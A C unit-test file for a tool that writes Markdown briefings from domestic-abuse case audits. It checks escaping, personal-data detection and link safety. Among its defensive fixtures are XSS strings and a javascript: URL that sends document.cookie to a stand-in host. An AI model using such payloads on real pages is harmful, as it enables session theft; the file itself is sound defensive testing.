/* The briefing of our learning: golden files for the demo audit in both layouts, hostile
 * text that must not break the Markdown, and the disclosure check's findings. Run with
 * MACA_UPDATE_GOLDEN=1 to rewrite the golden files after an intended change. */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "briefing.h"
#include "export_cases.h"
#include "sbuf.h"
#include "store.h"
#include "testutil.h"

struct fixture {
	struct store *st;
	struct template *tpl;
	int64_t audit;
	struct maca_err err;
};

#define assert_ok(f, call)                                                                         \
	do {                                                                                       \
		if ((call) != 0)                                                                   \
			fail_msg("%s: %s", #call, err_msg(&(f)->err));                             \
	} while (0)

static int setup(void **state)
{
	struct fixture *f = calloc(1, sizeof *f);
	assert_non_null(f);
	struct diag_list diags = {0};
	if (template_load_file(MACA_SOURCE_DIR "/audit-templates/domestic-abuse.ini", &f->tpl,
			       &diags) != 0)
		fail_msg("cannot load the domestic-abuse template");
	diag_list_free(&diags);
	assert_ok(f, store_open(":memory:", &f->st, &f->err));
	*state = f;
	return 0;
}

static int teardown(void **state)
{
	struct fixture *f = *state;
	store_close(f->st);
	template_free(f->tpl);
	err_clear(&f->err);
	free(f);
	return 0;
}

static char *write_briefing(struct fixture *f, const struct briefing_options *opt,
			    struct disclosure_list *found)
{
	char *md = NULL;
	assert_ok(f, briefing_write(f->st, f->audit, opt, &md, found, &f->err));
	assert_non_null(md);
	return md;
}

static void compare_golden(const char *got, const char *name)
{
	char *path = str_fmt("%s/tests/golden/%s", MACA_SOURCE_DIR, name);
	assert_non_null(path);
	const char *update = getenv("MACA_UPDATE_GOLDEN");
	if (update && *update) {
		FILE *fp = fopen(path, "w");
		assert_non_null(fp);
		fputs(got, fp);
		assert_int_equal(fclose(fp), 0);
	}
	char *want = tu_read(path, NULL);
	if (!want)
		fail_msg("%s is missing; run with MACA_UPDATE_GOLDEN=1 to write it", path);
	if (strcmp(got, want) != 0) {
		size_t i = 0;
		while (got[i] && got[i] == want[i])
			i++;
		fail_msg("%s differs at byte %zu: got \"%.60s\", want \"%.60s\"", name, i, got + i,
			 want + i);
	}
	free(want);
	free(path);
}

static void test_demo_golden(void **state)
{
	struct fixture *f = *state;
	assert_ok(f, demo_create(f->st, f->tpl, &f->audit, &f->err));
	struct briefing_options opt = {0};
	struct disclosure_list found = {0};
	char *md = write_briefing(f, &opt, &found);
	for (size_t i = 0; i < found.n; i++)
		print_message("finding: %s %s in %s\n", disclosure_kind_name(found.items[i].kind),
			      found.items[i].match, found.items[i].where);
	assert_int_equal(found.n, 0);
	compare_golden(md, "briefing-demo.md");
	/* Deterministic, and free of the audit's UUID. */
	char *again = write_briefing(f, &opt, &found);
	assert_string_equal(md, again);
	struct audit_info a;
	assert_ok(f, store_audit_get(f->st, f->audit, &a, &f->err));
	char prefix[9];
	memcpy(prefix, a.uuid, 8);
	prefix[8] = '\0';
	assert_null(strstr(md, prefix));
	audit_info_free(&a);
	free(again);
	free(md);

	opt.layout = "seven-minute";
	md = write_briefing(f, &opt, &found);
	assert_int_equal(found.n, 0);
	compare_golden(md, "briefing-demo-7min.md");
	free(md);
	disclosure_list_free(&found);
}

static void test_no_findings_and_layouts(void **state)
{
	struct fixture *f = *state;
	assert_ok(f, demo_create(f->st, f->tpl, &f->audit, &f->err));
	struct briefing_options opt = {0};
	struct disclosure_list found = {0};
	char *with = write_briefing(f, &opt, &found);
	assert_non_null(strstr(with, "## Findings at a glance"));
	opt.no_findings = true;
	char *without = write_briefing(f, &opt, &found);
	assert_null(strstr(without, "Findings at a glance"));
	assert_null(strstr(without, "| Grade |"));
	assert_non_null(strstr(without, "## Action plan"));
	free(with);
	free(without);
	opt.layout = "poster";
	char *md = NULL;
	assert_int_equal(briefing_write(f->st, f->audit, &opt, &md, &found, &f->err), MACA_EUSER);
	assert_null(md);
	err_clear(&f->err);
	disclosure_list_free(&found);
	assert_true(briefing_layout_known("standard"));
	assert_true(briefing_layout_known("seven-minute"));
	assert_false(briefing_layout_known("Standard"));
}

/* Whether needle occurs in md not escaped by a backslash before it. Not inlined: gcc 12's
 * -Wdangling-pointer then misreads the pointer arithmetic in optimised builds. */
__attribute__((noinline)) static bool raw(const char *md, const char *needle)
{
	for (const char *p = strstr(md, needle); p; p = strstr(p + 1, needle)) {
		size_t at = (size_t)(p - md);
		if (at == 0 || md[at - 1] != '\\')
			return true;
	}
	return false;
}

/* Number of | in line that are not escaped by a backslash. */
static size_t unescaped_pipes(const char *line, size_t len)
{
	size_t n = 0;
	for (size_t i = 0; i < len; i++) {
		if (line[i] == '\\') {
			i++;
			continue;
		}
		n += line[i] == '|';
	}
	return n;
}

/* Every table row has as many unescaped | as its header; returns the rows checked. */
static size_t check_tables(const char *md)
{
	size_t rows = 0, want = 0;
	bool in_table = false;
	for (const char *p = md; *p;) {
		const char *nl = strchr(p, '\n');
		size_t len = nl ? (size_t)(nl - p) : strlen(p);
		if (len && p[0] == '|') {
			size_t n = unescaped_pipes(p, len);
			if (!in_table)
				want = n;
			else if (n != want)
				fail_msg("table row has %zu separators, header %zu: %.*s", n, want,
					 (int)len, p);
			in_table = true;
			rows++;
		} else {
			in_table = false;
		}
		p += len + (nl != NULL);
	}
	return rows;
}

static const char hostile[] =
    "| *bold* _x_ `code` <script>alert('x')</script> [a](javascript:e) ![i](j) # h\n"
    "1. one\n- two\n> three\n\n    code block\n===\n\\ & &amp; ~~s~~ $m$ | end\n"
    "see www.evil.example/x or https://evil.example/y";

static void test_hostile_text(void **state)
{
	struct fixture *f = *state;
	size_t long_len = 20000;
	char *longline = malloc(long_len + 1);
	assert_non_null(longline);
	for (size_t i = 0; i < long_len; i++)
		longline[i] = "ab|*c "[i % 6];
	longline[long_len] = '\0';
	struct audit_new a = {.title = hostile,
			      .theme = "Theme | with <b>html</b>",
			      .partnership = "**Partnership** | ünïcödé 日本",
			      .chair_agency = "police",
			      .audit_date = "2025-01-31",
			      .background = longline,
			      .tpl = f->tpl};
	assert_ok(f, store_audit_create(f->st, &a, &f->audit, &f->err));
	struct named_list tags = {0};
	assert_true(split_list("marac", &tags));
	struct case_fields c1 = {.reference = "Child | A", .tags = &tags};
	struct case_fields c2 = {.reference = "Child *B*"};
	int64_t id;
	assert_ok(f, store_case_add(f->st, f->audit, &c1, &id, &f->err));
	assert_ok(f, store_agreed_save(f->st, id, "voice-seen", "good", "", NULL, &f->err));
	assert_ok(f, store_case_add(f->st, f->audit, &c2, &id, &f->err));
	named_list_free(&tags);
	struct good_practice_fields g = {.text = hostile, .agencies = "", .cases = ""};
	assert_ok(f, store_good_practice_add(f->st, f->audit, &g, &id, &f->err));
	struct learning_point_fields lp = {.title = "| title |", .text = hostile};
	int number;
	assert_ok(f, store_learning_point_add(f->st, f->audit, &lp, &id, &number, &f->err));
	struct learning_point_fields blank = {.title = "Empty", .text = ""};
	int64_t blank_id;
	assert_ok(f,
		  store_learning_point_add(f->st, f->audit, &blank, &blank_id, &number, &f->err));
	struct action_fields act = {.what = hostile, .owner_agency = "csc", .due_date = ""};
	int64_t aid;
	assert_ok(f, store_action_add(f->st, id, &act, &aid, &f->err));
	act.what = longline;
	act.due_date = "2025-12-01";
	assert_ok(f, store_action_add(f->st, id, &act, &aid, &f->err));

	/* The chair's own words for the briefing: a part's text, a heading, the subtitle. */
	assert_ok(f, briefing_part_set_text(f->st, f->audit, "standard", BRIEFING_SAMPLE, hostile,
					    NULL, NULL, NULL, &f->err));
	assert_ok(f, briefing_part_heading(f->st, f->audit, "standard", BRIEFING_GOOD_PRACTICE,
					   "| # heading <b>x</b> [a](http://e)", &f->err));
	assert_ok(f, briefing_setting_set(f->st, f->audit, BRIEFING_SET_SUBTITLE,
					  "**Partnership** | ünïcödé 日本", &f->err));
	struct briefing_options opt = {0};
	struct disclosure_list found = {0};
	char *md = write_briefing(f, &opt, &found);
	assert_true(check_tables(md) >= 4 + 2 + 2 + 4);
	assert_false(raw(md, "<b>"));
	assert_non_null(strstr(md, "\n## \\| \\# heading"));
	/* No raw HTML, no heading or list made from user text. */
	assert_false(raw(md, "<script"));
	assert_false(raw(md, "`code`"));
	assert_false(raw(md, "[a](j"));
	assert_null(strstr(md, "\n# h"));
	/* The chair's lists stay lists in the long texts (the learning point's, here), and
	 * nowhere else (the title and the action escape them). */
	assert_non_null(strstr(md, "\n1. one\n\n- two\n"));
	assert_non_null(strstr(md, "\\| title \\| | \\| \\*bold\\*"));
	assert_null(strstr(md, "\n> three"));
	assert_null(strstr(md, "\n    code"));
	assert_null(strstr(md, "\n==="));
	assert_non_null(strstr(md, "ünïcödé 日本"));
	assert_non_null(strstr(md, "| 1. \\| title \\| |"));
	assert_int_equal(found.n, 0);
	/* Left in the test's directory for the briefing_render test to render. */
	FILE *fp = fopen("briefing-hostile.md", "w");
	assert_non_null(fp);
	fputs(md, fp);
	assert_int_equal(fclose(fp), 0);
	free(md);

	opt.layout = "seven-minute";
	md = write_briefing(f, &opt, &found);
	check_tables(md);
	free(md);
	disclosure_list_free(&found);
	free(longline);
}

/* York's background (../shared/seeds, a published briefing) as its chair typed it: its
 * bullet list stays a list and its paragraphs stay apart, where the briefing used to run
 * them together as "\- the response to all forms...". */
static const char york_background[] =
    "Joint Targeted Area Inspections are carried out under Section 20 of the Children Act, "
    "2004.\n\nThey are thematic and are an inspection of multi-agency arrangements for:\n\n"
    "- the response to all forms of child abuse, neglect and exploitation at the point of "
    "identification\n"
    "- the quality and impact of assessment, planning and decision making in response to "
    "notifications and referrals\n"
    "- the leadership and management of this work\n\n"
    "The most recent theme announced in September 2024 was regarding Domestic Abuse.";

static void test_york_background_keeps_its_list(void **state)
{
	struct fixture *f = *state;
	struct audit_new a = {
	    .title = "Domestic Abuse", .background = york_background, .tpl = f->tpl};
	assert_ok(f, store_audit_create(f->st, &a, &f->audit, &f->err));
	struct briefing_options opt = {0};
	struct disclosure_list found = {0};
	char *md = write_briefing(f, &opt, &found);
	assert_non_null(strstr(md,
			       "Children Act, 2004.\n\nThey are thematic and are an inspection "
			       "of multi-agency arrangements for:\n\n- the response to all forms"));
	assert_non_null(strstr(md,
			       "notifications and referrals\n- the leadership and management of "
			       "this work\n\nThe most recent theme"));
	assert_null(strstr(md, "\\- the response"));
	free(md);
	disclosure_list_free(&found);
}

static void test_disclosure_findings(void **state)
{
	struct fixture *f = *state;
	struct audit_new a = {.title = "Audit", .tpl = f->tpl};
	assert_ok(f, store_audit_create(f->st, &a, &f->audit, &f->err));
	struct case_fields c = {.reference = "Jayden Smith"};
	int64_t id;
	assert_ok(f, store_case_add(f->st, f->audit, &c, &id, &f->err));
	struct good_practice_fields g = {
	    .text = "Mum rang from 07700 900123.", .agencies = "", .cases = ""};
	assert_ok(f, store_good_practice_add(f->st, f->audit, &g, &id, &f->err));
	struct learning_point_fields lp = {.title = "Point",
					   .text = "Born 3 March 2014 at YO1 7HH."};
	int number;
	assert_ok(f, store_learning_point_add(f->st, f->audit, &lp, &id, &number, &f->err));
	struct briefing_options opt = {0};
	struct disclosure_list found = {0};
	char *md = write_briefing(f, &opt, &found);
	assert_int_equal(found.n, 4);
	assert_int_equal(found.items[0].kind, DISCLOSURE_NAME);
	assert_string_equal(found.items[0].where, "case 1, reference");
	assert_int_equal(found.items[1].kind, DISCLOSURE_PHONE);
	assert_string_equal(found.items[1].where, "good practice 1, text");
	assert_int_equal(found.items[2].kind, DISCLOSURE_DATE);
	assert_string_equal(found.items[2].where, "learning point 1, text");
	assert_int_equal(found.items[3].kind, DISCLOSURE_POSTCODE);
	free(md);
	disclosure_list_free(&found);
}

/* A resource that reached the writer with a javascript: url (the loaders refuse one; this one
 * is built by hand) is listed as plain text, never as a link. */
static void test_resource_link_defensive(void **state)
{
	struct fixture *f = *state;
	assert_ok(f, demo_create(f->st, f->tpl, &f->audit, &f->err));
	const struct resource res[] = {
	    {.title = "Evil", .url = "javascript:fetch('https://x.example/'+document.cookie)"},
	    {.title = "Tabbed", .url = "java\tscript:alert(1)"},
	    {.title = "Good", .url = "https://example.org/procedures"}};
	struct briefing_options opt = {.resources = res, .nresources = 3};
	struct disclosure_list found = {0};
	char *md = write_briefing(f, &opt, &found);
	assert_null(strstr(md, "](java"));
	assert_null(strstr(md, "[Evil]"));
	assert_null(strstr(md, "[Tabbed]"));
	assert_non_null(strstr(md, "- Evil ("));
	assert_non_null(strstr(md, "[Good](https://example.org/procedures)"));
	free(md);
	disclosure_list_free(&found);
}

/* A template with a section of each: graded, and yes-no and text only. */
static const char kinds_template[] =
    "[template]\nid = kinds\ntitle = Kinds\nversion = 1\ntheme = Neglect\n"
    "[grade good]\nlabel = Good\nkey = g\n"
    "[grade poor]\nlabel = Poor\nkey = o\n"
    "[agencies]\npolice = Police\nhealth = Health\n"
    "[section graded]\ntitle = Graded work\n"
    "[question g1]\nsection = graded\ntext = Was the plan good?\n"
    "[section other]\ntitle = Seen and heard\n"
    "[question y1]\nsection = other\nkind = yes-no\n"
    "text = Was neglect recognised at the first opportunity?\n"
    "[question t1]\nsection = other\nkind = text\n"
    "text = What difference did the help make?\n";

/* Every kind of question agreed reaches the briefing as what it is: a grade in the grid; a
 * yes-no answer counted by answer; a text question's summaries counted, never quoted; and a
 * section with nothing to grade says so rather than "not yet agreed". */
static void test_every_kind_of_question(void **state)
{
	struct fixture *f = *state;
	struct template *tpl = NULL;
	struct diag_list diags = {0};
	if (template_parse("kinds.ini", kinds_template, strlen(kinds_template), &tpl, &diags))
		fail_msg("%s", diags.n ? diags.items[0].msg : "cannot parse");
	diag_list_free(&diags);
	struct audit_new a = {.title = "Kinds", .tpl = tpl};
	assert_ok(f, store_audit_create(f->st, &a, &f->audit, &f->err));
	static const char *const yes_no[] = {"yes", "no", "yes", ""};
	for (size_t c = 0; c < 4; c++) {
		char ref[16];
		snprintf(ref, sizeof ref, "Child %c", (char)('A' + c));
		struct case_fields cf = {.reference = ref, .summary = "CONFIDENTIAL-SUMMARY"};
		int64_t id;
		assert_ok(f, store_case_add(f->st, f->audit, &cf, &id, &f->err));
		assert_ok(f, store_agreed_save(f->st, id, "g1", c % 2 ? "poor" : "good", NULL, NULL,
					       &f->err));
		if (*yes_no[c])
			assert_ok(
			    f, store_agreed_save(f->st, id, "y1", yes_no[c], NULL, NULL, &f->err));
		if (c < 3)
			assert_ok(f, store_agreed_save(f->st, id, "t1", "SUMMARY-OF-ONE-CHILD",
						       NULL, NULL, &f->err));
	}
	struct briefing_options opt = {0};
	struct disclosure_list found = {0};
	char *md = write_briefing(f, &opt, &found);
	disclosure_list_free(&found);
	assert_non_null(strstr(md, "This section has nothing to grade, as its questions are "
				   "answered yes or no, or in words: Seen and heard."));
	assert_null(strstr(md, "No grades have been agreed yet"));
	/* Four cases: every count of the yes-no row is small, so none is shown. */
	assert_non_null(strstr(md, "| Was neglect recognised at the first opportunity? | fewer "
				   "than 3 | fewer than 3 | fewer than 3 | fewer than 3 | fewer "
				   "than 3 |"));
	assert_non_null(strstr(md, "The partnership agreed 3 written summaries for the 1 "
				   "question answered in words"));
	/* Neither the agreed summaries nor the cases' own confidential summaries are published. */
	assert_null(strstr(md, "SUMMARY-OF-ONE-CHILD"));
	assert_null(strstr(md, "CONFIDENTIAL-SUMMARY"));
	free(md);
	/* How many agencies took part: in the background's suggestion, for the chair to take. */
	char *bg = NULL;
	assert_ok(
	    f, briefing_part_suggestion(f->st, f->audit, BRIEFING_BACKGROUND, &opt, &bg, &f->err));
	assert_non_null(strstr(bg, "In all, two agencies took part."));
	free(bg);
	/* With suppression off, the yes-no row counts the cases at each answer. */
	opt.small_count = -1;
	md = write_briefing(f, &opt, &found);
	disclosure_list_free(&found);
	assert_non_null(
	    strstr(md, "| Was neglect recognised at the first opportunity? | 2 | 1 | 0 | 0 | 1 |"));
	free(md);
	opt.small_count = 0;
	/* The case summaries (never published) show each case's section as not graded. */
	char *cases = NULL;
	assert_ok(f, export_cases(f->st, f->audit, &cases, &f->err));
	assert_non_null(strstr(cases, "| Child A | Good | not graded |"));
	assert_non_null(strstr(cases, "\"not graded\" for a section"));
	free(cases);
	/* With attendance recorded: how many attended, never who sent apologies. */
	assert_ok(f, store_attendance_set(f->st, f->audit, "police", ATTENDANCE_ATTENDED, "DS X",
					  &f->err));
	assert_ok(f, store_attendance_set(f->st, f->audit, "health", ATTENDANCE_APOLOGIES, NULL,
					  &f->err));
	assert_ok(
	    f, briefing_part_suggestion(f->st, f->audit, BRIEFING_BACKGROUND, &opt, &bg, &f->err));
	assert_non_null(strstr(bg, "In all, two agencies took part; one of them attended the "
				   "audit day."));
	assert_null(strstr(bg, "DS X"));
	assert_null(strstr(bg, "apologies"));
	free(bg);
	md = write_briefing(f, &opt, &found);
	disclosure_list_free(&found);
	assert_null(strstr(md, "DS X"));
	assert_null(strstr(md, "apologies"));
	free(md);
	template_free(tpl);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test_setup_teardown(test_demo_golden, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_no_findings_and_layouts, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_hostile_text, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_york_background_keeps_its_list, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_disclosure_findings, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_resource_link_defensive, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_every_kind_of_question, setup, teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
